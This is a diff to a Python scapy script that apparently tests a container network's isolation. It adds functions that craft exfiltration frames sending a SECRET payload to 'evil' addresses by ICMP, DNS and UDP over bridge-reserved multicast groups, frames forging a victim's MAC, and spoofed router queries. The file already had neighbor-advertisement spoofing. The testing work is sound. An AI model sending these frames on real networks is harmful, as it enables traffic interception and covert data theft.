@@ -4,7 +4,26 @@ import socket
 import sys
 import time
 
-from scapy.all import ARP, DNS, DNSQR, ICMP, IP, TCP, UDP, Ether, ICMPv6DestUnreach, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6, conf, get_if_hwaddr
+from scapy.all import (
+    ARP,
+    DNS,
+    DNSQR,
+    ICMP,
+    IP,
+    TCP,
+    UDP,
+    Ether,
+    ICMPv6DestUnreach,
+    ICMPv6EchoRequest,
+    ICMPv6MLQuery,
+    ICMPv6ND_NA,
+    ICMPv6NDOptDstLLAddr,
+    IPv6,
+    IPv6ExtHdrHopByHop,
+    RouterAlert,
+    conf,
+    get_if_hwaddr,
+)
 
 ME4, ME6, OTHER4, OTHER6, GATE4, GATE6 = "172.20.0.7", "fd00:20::7", "172.20.0.8", "fd00:20::8", "172.20.0.1", "fd00:20::1"
 EVIL4, EVIL6 = "185.199.108.66", "2a0a:e5c0::66"
@@ -37,6 +56,42 @@ def advertised(mac, seconds):
         answer = ICMPv6ND_NA(tgt=OTHER6, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=get_if_hwaddr("eth0"))
         yield bytes(Ether(dst=mac) / IPv6(src=ME6, dst=GATE6, hlim=255) / answer)
         time.sleep(0.01)
+
+
+def link_local(mac):
+    """To the groups that a bridge gives its host unseen (IEEE 802.1D): what the host would answer to an outside address, and routers."""
+    for last in range(16):
+        to = Ether(dst=f"01:80:c2:00:00:{last:02x}")
+        for mine in (GATE4, "5.9.10.2"):
+            yield bytes(to / IP(src=EVIL4, dst=mine) / ICMP(type=8) / SECRET)
+            yield bytes(to / IP(src=EVIL4, dst=mine) / UDP(sport=99, dport=53) / DNS(rd=1, qd=DNSQR(qname="secret.evil.test")))
+            yield bytes(to / IP(src=EVIL4, dst=mine) / UDP(sport=99, dport=7000) / SECRET)
+        for mine in (GATE6, "2a01:4f8:10::2"):
+            yield bytes(to / IPv6(src=EVIL6, dst=mine) / ICMPv6EchoRequest(data=SECRET))
+            yield bytes(to / IPv6(src=EVIL6, dst=mine) / UDP(sport=99, dport=53) / DNS(rd=1, qd=DNSQR(qname="secret.evil.test")))
+        yield bytes(to / IP(src=EVIL4, dst=EVIL4) / UDP(sport=99, dport=99) / SECRET)
+
+
+def stolen_unseen(mac, victim, seconds):
+    """The victim's source address in frames to those groups."""
+    source = bytes.fromhex(victim.replace(":", ""))
+    for _ in range(int(float(seconds) * 300)):
+        for last in (0, 2, 3, 14):
+            yield bytes.fromhex("0180c20000") + bytes([last]) + source + b"\x88\xcc" + bytes(50)
+        time.sleep(0.003)
+
+
+def queried(mac, seconds):
+    """As a router that asks who is in a group (MLD, IGMP) and forwards for it (PIM)."""
+    me = "fe80::7"
+    for _ in range(int(float(seconds) * 20)):
+        for group in ("ff02::1:ff00:1", "ff02::1:ff00:8", "::"):
+            to = "ff02::1" if group == "::" else group
+            hop = IPv6ExtHdrHopByHop(options=[RouterAlert()])
+            yield bytes(Ether(dst="33:33:00:00:00:01") / IPv6(src=me, dst=to, hlim=1) / hop / ICMPv6MLQuery(mladdr=group, mrd=1))
+        igmp = b"\x11\x01\xee\xfe" + bytes(4)
+        yield bytes(Ether(dst="01:00:5e:00:00:01") / IP(src=ME4, dst="224.0.0.1", proto=2, ttl=1) / igmp)
+        time.sleep(0.05)
 
 
 def own_errors(mac):
